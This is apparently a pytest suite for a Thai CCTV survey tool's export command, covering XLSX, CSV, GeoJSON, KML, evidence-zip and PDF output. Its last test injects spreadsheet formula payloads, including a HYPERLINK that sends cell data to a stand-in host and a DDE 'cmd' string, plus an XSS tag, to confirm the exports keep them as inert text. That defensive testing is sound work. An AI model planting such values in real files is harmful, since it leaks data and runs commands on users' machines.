"""Export round trips through the CLI: XLSX, CSV, GeoJSON, KML, evidence zip, PDF."""

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import time
import unicodedata
import zipfile
from xml.etree import ElementTree as ET

import openpyxl
import pytest

from survey_node import review
from survey_node.exports import HEADERS

from .conftest import require_system
from .review_fixtures import SUPERVISOR, complete_survey, seed_cameras, select_all


@pytest.fixture
def handed_in(db, config, data_dir, users):
    ids = seed_cameras(db)
    select_all(db)
    a = complete_survey(db, config, ids[0], offset=0.001, colour=(10, 200, 10))
    b = complete_survey(db, config, ids[3], verdict="timeout")
    review.decide(db, a["id"], user=SUPERVISOR, decision="approved", flags=["camera_moved"])
    return {"ids": ids, "approved": a, "pending": b, "data_dir": data_dir}


def _export(cli, data_dir, fmt, out, *extra):
    result = cli("export", "--data-dir", data_dir, "--format", fmt, "--out", out, *extra)
    assert result.exit_code == 0, result.output
    return result


def test_xlsx_has_thai_headers_cameras_and_the_quota(cli, handed_in, tmp_path):
    out = tmp_path / "cctv.xlsx"
    _export(cli, handed_in["data_dir"], "xlsx", out)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["กล้อง", "สรุปตามเป้าหมาย"]
    rows = list(wb["กล้อง"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS and rows[0][:4] == ("รหัสกล้อง", "ชื่อจุดติดตั้ง", "ชื่อสถานที่", "ประเภทสถานที่")
    assert len(rows) == 6  # the whole survey set
    by_id = {r[0]: dict(zip(HEADERS, r)) for r in rows[1:]}
    moved = by_id["NMA-001"]
    assert moved["ผลการตรวจสอบ"] == "อนุมัติ"
    assert 100 < moved["ระยะห่างจากพิกัดในทะเบียน (ม.)"] < 120
    assert moved["ที่มาของค่าคลาดเคลื่อน"] == "วัดโดยตัวรับ (GST)"
    # What an office files: the surveyor's reason for the offset, people by their names, no
    # English codes.
    assert moved["เหตุผลที่พิกัดต่างจากทะเบียน"] == "ย้ายไปเสาต้นถัดไป"
    assert moved["ที่มาของพิกัด"] == "GPS ของเครื่องสำรวจ"
    assert moved["ผู้สำรวจ"] == "Surveyor Test" and moved["ผู้ตรวจสอบ"] == "Supervisor Test"
    assert moved["จำนวนภาพถ่าย"] == 1
    assert "256" in moved["วันที่สำรวจ (พ.ศ.)"]  # Buddhist Era year, 25xx
    assert by_id["NMA-004"]["ผลตรวจสัญญาณภาพ"] == "ไม่ตอบสนอง"
    assert (moved["ความละเอียดที่วัดได้"], moved["อัตราเฟรม (fps)"]) == ("1920x1080", 12.5)
    assert by_id["NMA-002"]["สถานะการสำรวจ"] == "ยังไม่สำรวจ"
    quota = [r for r in wb["สรุปตามเป้าหมาย"].iter_rows(values_only=True) if r and r[0] == "3001"]
    assert quota[0][4:7] == (2, 1, 1)  # selected, surveyed, approved


def test_csv_has_a_bom_and_opens_as_utf8(cli, handed_in, tmp_path):
    out = tmp_path / "cctv.csv"
    _export(cli, handed_in["data_dir"], "csv", out, "--state", "surveyed")
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == HEADERS and sorted(r[0] for r in rows[1:]) == ["NMA-001", "NMA-004"]


def test_geojson_and_kml_parse(cli, handed_in, tmp_path):
    gj, kml = tmp_path / "c.geojson", tmp_path / "c.kml"
    _export(cli, handed_in["data_dir"], "geojson", gj, "--state", "approved")
    doc = json.loads(gj.read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == 1
    feature = doc["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [102.1, 14.97]}  # registered
    props = feature["properties"]
    assert props["survey_state"] == "approved" and abs(props["surveyed_lat"] - 14.971) < 1e-6
    assert props["selected"] is True and props["photos"] == 1
    everything = cli("export", "--data-dir", handed_in["data_dir"], "--format", "geojson")
    assert len(json.loads(everything.stdout)["features"]) == 5  # stdout, every camera
    _export(cli, handed_in["data_dir"], "kml", kml, "--amphoe", "เมืองนครราชสีมา")
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    marks = ET.parse(kml).getroot().findall(".//k:Placemark", ns)
    assert [m.find("k:name", ns).text for m in marks] == ["NMA-001 แยกหัวทะเล", "NMA-002 หน้าโรงเรียนสุรนารี"]
    assert marks[0].find("k:styleUrl", ns).text == "#approved"
    assert marks[0].find("k:Point/k:coordinates", ns).text.startswith("102.1000000,14.9710000")


def test_evidence_zip_names_files_and_hashes_them(cli, handed_in, tmp_path):
    out = tmp_path / "evidence.zip"
    _export(cli, handed_in["data_dir"], "evidence-zip", out, "--state", "surveyed")
    with zipfile.ZipFile(out) as zf:
        names = set(zf.namelist())
        assert {"NMA-001/NMA-001_camera_1.jpg", "NMA-001/NMA-001_snapshot_1.jpg",
                "NMA-004/NMA-004_camera_1.jpg"} <= names
        sums = dict(line.split("  ")[::-1] for line in zf.read("SHA256SUMS").decode().splitlines())
        for name, sha in sums.items():
            assert hashlib.sha256(zf.read(name)).hexdigest() == sha
        manifest = json.loads(zf.read("manifest.json"))
        assert {f["camera_id"] for f in manifest["files"]} == {"NMA-001", "NMA-004"}
        assert manifest["missing"] == []


def test_pdf_sheets_have_thai_text_that_extracts(cli, handed_in, tmp_path):
    require_system("chromium", "pdftotext")
    out = tmp_path / "sheets.pdf"
    _export(cli, handed_in["data_dir"], "pdf", out, "--state", "surveyed")
    assert out.read_bytes().startswith(b"%PDF")
    info = subprocess.run(["pdfinfo", str(out)], capture_output=True, text=True, timeout=30).stdout
    assert re.search(r"^Pages:\s+2$", info, re.M) and "(A4)" in info, info
    text = subprocess.run(["pdftotext", "-layout", str(out), "-"], capture_output=True,
                          text=True, timeout=30).stdout
    text = unicodedata.normalize("NFC", text)
    for phrase in ("แยกหัวทะเล", "สี่แยกปากช่อง", "สถานีตำรวจภูธรเมืองนครราชสีมา", "กล้องอยู่บนเสาไฟ",
                   # the offset's reason, the footer, people by name, roles in Thai
                   "ย้ายไปเสาต้นถัดไป", "แผ่นที่ 1 จาก 2", "แผ่นที่ 2 จาก 2", "พิมพ์เมื่อ",
                   "Surveyor Test", "Supervisor Test", "ตัวกล้อง · SHA-256",
                   "(วัดโดยเครื่องรับ (GST))"):
        assert phrase in text, phrase
    for leftover in ("gpsd", "camera ·", "(ok)"):
        assert leftover not in text, leftover
    assert "\f" in text  # one sheet per page


def test_export_errors_are_one_line(cli, handed_in, tmp_path):
    result = cli("export", "--data-dir", handed_in["data_dir"], "--format", "pdf",
                 "--state", "approved", "--amphoe", "nowhere", "--out", tmp_path / "x.pdf")
    assert result.exit_code == 2 and "No surveyed camera matches" in result.output
    assert not (tmp_path / "x.pdf").exists()
    result = cli("export", "--data-dir", handed_in["data_dir"], "--format", "csv",
                 "--out", tmp_path / "missing" / "x.csv")
    assert result.exit_code == 2 and "does not exist" in result.output
    result = cli("export", "--data-dir", handed_in["data_dir"], "--format", "xlsx")
    assert result.exit_code == 2 and "give --out FILE" in result.output


def test_doctor_says_whether_pdfs_can_be_printed(config, monkeypatch):
    from survey_node import doctor

    found = {c.name: c for c in doctor.run_checks(config)}
    assert found["pdf"].status == ("ok" if shutil.which("chromium") else "warn")
    config.exports.chromium = "/nonexistent/chromium"
    found = {c.name: c for c in doctor.run_checks(config)}
    assert found["pdf"].status == "warn" and "cannot print" in found["pdf"].detail


def test_a_hanging_printer_is_killed_at_the_deadline(db, config, handed_in, tmp_path):
    from survey_node import exports
    from survey_node.errors import DeviceUnavailable

    hang = tmp_path / "fake-chromium"
    hang.write_text("#!/bin/sh\nsleep 60 &\necho $! > " + str(tmp_path / "child.pid") + "\nwait\n")
    hang.chmod(0o755)
    config.exports.chromium, config.exports.pdf_timeout_s = str(hang), 0
    with pytest.raises(DeviceUnavailable, match="longer than"):
        exports.export_file(db, config, "pdf", tmp_path / "x.pdf", scope="approved")
    child = int((tmp_path / "child.pid").read_text())
    # SIGKILL went to the whole group; give the kernel a moment to finish the grandchild off.
    deadline = time.monotonic() + 10
    while _alive(child) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _alive(child), "the printer's helper process outlived the deadline"
    assert not (tmp_path / "x.pdf").exists()


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
    except FileNotFoundError:
        return False


HOSTILE = {"site_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
           "place_name": "+1+2", "brand": "-2+3", "model": "\t=1+1"}


def test_formula_text_from_the_registry_stays_text_in_every_export(cli, db, handed_in, tmp_path):
    from survey_node.db import transaction

    with transaction(db):
        for column, text in HOSTILE.items():
            db.execute(f"UPDATE cameras SET {column} = ? WHERE camera_id = 'NMA-001'", [text])
        db.execute("UPDATE cameras SET agency = ? WHERE camera_id = 'NMA-002'",
                   ['<img src=x onerror="alert(1)">'])
    xlsx, csv_out, kml = tmp_path / "c.xlsx", tmp_path / "c.csv", tmp_path / "c.kml"
    _export(cli, handed_in["data_dir"], "xlsx", xlsx)
    sheet = openpyxl.load_workbook(xlsx)["กล้อง"]
    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
    for text in HOSTILE.values():  # the exact text, typed as a string: Excel shows it, runs nothing
        assert cells[text].data_type == "s", text
    _export(cli, handed_in["data_dir"], "csv", csv_out)
    rows = list(csv.reader(io.StringIO(csv_out.read_bytes().decode("utf-8-sig"))))
    moved = dict(zip(rows[0], next(r for r in rows if r[0] == "NMA-001")))
    assert moved["ชื่อจุดติดตั้ง"] == "'" + HOSTILE["site_name"]
    written = {v for r in rows[1:] for v in r}
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in written), written
    assert "'-2+3" in written and "'@SUM(1+1)*cmd|' /C calc'!A0" in written
    _export(cli, handed_in["data_dir"], "kml", kml)
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    marks = {m.get("id"): m for m in ET.parse(kml).getroot().findall(".//k:Placemark", ns)}
    description = marks["NMA-002"].find("k:description", ns).text
    # A viewer renders the description as HTML: the tag must arrive as text, not as markup.
    assert "<img" not in description and "&lt;img src=x" in description
